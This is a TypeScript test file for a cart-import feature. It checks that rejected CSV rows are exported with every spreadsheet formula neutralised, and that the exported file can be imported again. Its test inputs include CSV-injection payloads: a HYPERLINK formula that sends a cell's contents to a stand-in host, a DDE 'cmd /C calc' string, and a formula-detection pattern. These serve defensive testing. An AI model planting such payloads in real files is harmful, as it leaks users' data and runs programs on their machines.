import fc from 'fast-check'
import Papa from 'papaparse'
import { describe, expect, it } from 'vitest'
import { rejectedCsv, rejectedRows } from '../../../../src/main/cart-import/rejected-csv.ts'
import { readCartRows } from '../../../../src/main/files/read-cart-csv.ts'
import type { ImportRow } from '../../../../src/shared/domain/carts/cart-import.ts'
import { ID, letsOthersWork, openDraft, taken, torn } from './draft.ts'

const row = (text: string, id?: number, qty?: number): ImportRow => ({
  line: 2,
  text,
  id,
  qty,
  name: undefined,
  mrp: undefined,
  verdict: 'notTwoIntegers',
  reason: '',
  inCart: 0,
  available: undefined,
  applied: false,
})

/** The file's lines for these rows, without the headings. */
const linesOf = (separator: string, ...rows: ImportRow[]): readonly string[] =>
  [...rejectedCsv({ separator, rows })].join('').split('\r\n').slice(1, -1)

const cellsOf = (line: string | undefined): readonly string[] =>
  Papa.parse<string[]>(line ?? '', { delimiter: ',' }).data[0] ?? []

/** Text that a spreadsheet runs as a formula; a signed number isn't one. */
const FORMULA = /^[\s\0]*(?![+-]\d+$)[=+\-@＝]/

describe('a row that was left out', () => {
  it.each([
    ['x,=HYPERLINK("http://evil.example/?q="&A1,"open")', 'comma'],
    ["abc,=1+cmd|' /C calc'!A0", 'comma'],
    ['abc;@SUM(A1)', 'semicolon'],
    ['abc\t+cmd', 'tab'],
    ['1000, =1+1', 'comma'],
    ['abc,"\t=1+1"', 'comma'],
    ['"a,b","=1+1"', 'comma'],
    ['abc,\0=1+1', 'comma'],
    ['abc,-1+1', 'comma'],
    ['"=never closed,1', 'comma'],
    ['a,"\r\n=two lines"', 'comma'],
  ])('has no formula in any cell: %j', (text, separator) => {
    const cells = cellsOf(linesOf(separator, row(text))[0])
    expect(cells.filter((cell) => cell.startsWith("'"))).toHaveLength(1)
    for (const cell of cells) expect(cell).not.toMatch(FORMULA)
  })

  it('has none, with any text in it', () => {
    const piece = fc.constantFrom('=', '+', '-', '@', '\t', '\r', '\0', ',', ';', '"', ' ', '1', 'x', '\n', '＝')
    fc.assert(
      fc.property(fc.array(piece), fc.constantFrom('comma', 'semicolon', 'tab'), (pieces, separator) => {
        for (const cell of cellsOf(linesOf(separator, row(pieces.join('')))[0])) {
          expect(cell).not.toMatch(FORMULA)
        }
      }),
    )
  })

  it('keeps its numbers, and the cells that it had', () => {
    expect(linesOf('comma', row('310911,-5'), row('310912,2.5'), row('5', 5, 6), row('a, b ,c'))).toEqual([
      '310911,-5',
      '310912,2.5',
      '5,6',
      'a," b ",c',
    ])
    expect(cellsOf(linesOf('semicolon', row('310911;2,5'))[0])).toEqual(['310911', '2,5'])
    expect(cellsOf(linesOf('comma', row('"say ""hi""",4'))[0])).toEqual(['say "hi"', '4'])
  })

  it('can be imported again', async () => {
    const rejected = [row('310911;=1+1'), row('', 310_912, 7), row('7')]
    const file = [...rejectedCsv({ separator: 'semicolon', rows: rejected })].join('')
    const read = await readCartRows(Buffer.from(file))
    expect('rows' in read && read.rows.map(({ line, id, qty }) => [line, id, qty])).toEqual([
      [1, undefined, undefined],
      [2, 310_911, undefined],
      [3, 310_912, 7],
      [4, 7, undefined],
    ])
  })
})

describe('the rows of an import that were left out', () => {
  it('are those with a problem, in the file’s order, however many there are', async () => {
    const many = Array.from({ length: 1_100 }, (_, nth) => torn(nth + 4, 'x'))
    const heading = torn(1, 'id,qty', { verdict: 'header' })
    const { drafts } = openDraft([heading, taken(2, 1, 5), taken(3, 1, 9, { verdict: 'duplicate' }), ...many])
    const left = await rejectedRows(drafts, ID)
    expect(left.ok && left.value.separator).toBe('comma')
    expect(left.ok && left.value.rows.map(({ line }) => line)).toEqual(
      Array.from({ length: 1_101 }, (_, nth) => nth + 3),
    )
    const lines = [...rejectedCsv({ separator: 'comma', rows: left.ok ? left.value.rows : [] })].join('').split('\r\n')
    expect([lines.length, lines[1], lines.at(-2)]).toEqual([1_103, '1,9', 'x'])
  })

  it('let others work while they are read', async () => {
    const { drafts } = openDraft([torn(1, 'x')])
    expect(await letsOthersWork(() => rejectedRows(drafts, ID))).toBe(true)
  })

  it('are none of an import that is gone, and can’t be told where they can’t be read', async () => {
    const { drafts, db } = openDraft([])
    expect(await rejectedRows(drafts, 'gone')).toEqual({ ok: true, value: { separator: '', rows: [] } })
    db.exec('ALTER TABLE import_rows RENAME TO gone')
    expect(await rejectedRows(drafts, ID)).toMatchObject({ error: { kind: 'storage' } })
  })
})
